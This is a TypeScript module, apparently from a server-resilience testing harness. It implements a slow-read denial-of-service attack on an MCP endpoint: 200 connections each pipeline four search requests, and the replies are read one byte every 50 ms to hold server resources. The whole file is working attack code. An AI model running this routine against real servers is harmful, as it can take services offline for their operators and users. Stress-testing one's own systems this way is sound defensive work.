import type { StartAttack } from '../attack.ts'
import { MCP_HEADERS, searchOf } from '../send-request.ts'
import { createQueries } from '../target.ts'
import { holdConnections } from './hold-connections.ts'

const CONNECTIONS = 200
const SEARCHES = 4
const READ_EVERY_MS = 50

/** Asks for four searches over each of 200 connections, and reads the answers a byte at a time. */
export const readSlowly: StartAttack = (target) => {
  const query = createQueries(target)
  const headers = Object.entries(MCP_HEADERS).map(([name, value]) => `${name}: ${value}\r\n`)
  const bytes = (): string => {
    const body = JSON.stringify(searchOf(1, query()))
    const length = Buffer.byteLength(body)
    return `POST /mcp HTTP/1.1\r\nHost: localhost\r\n${headers.join('')}Content-Length: ${length}\r\n\r\n${body}`
  }
  return holdConnections(target, {
    connections: CONNECTIONS,
    bytes: () => Array.from({ length: SEARCHES }, bytes).join(''),
    onSent(socket) {
      const timer = setInterval(() => socket.read(1), READ_EVERY_MS)
      socket.once('close', () => clearInterval(timer))
    },
  })
}
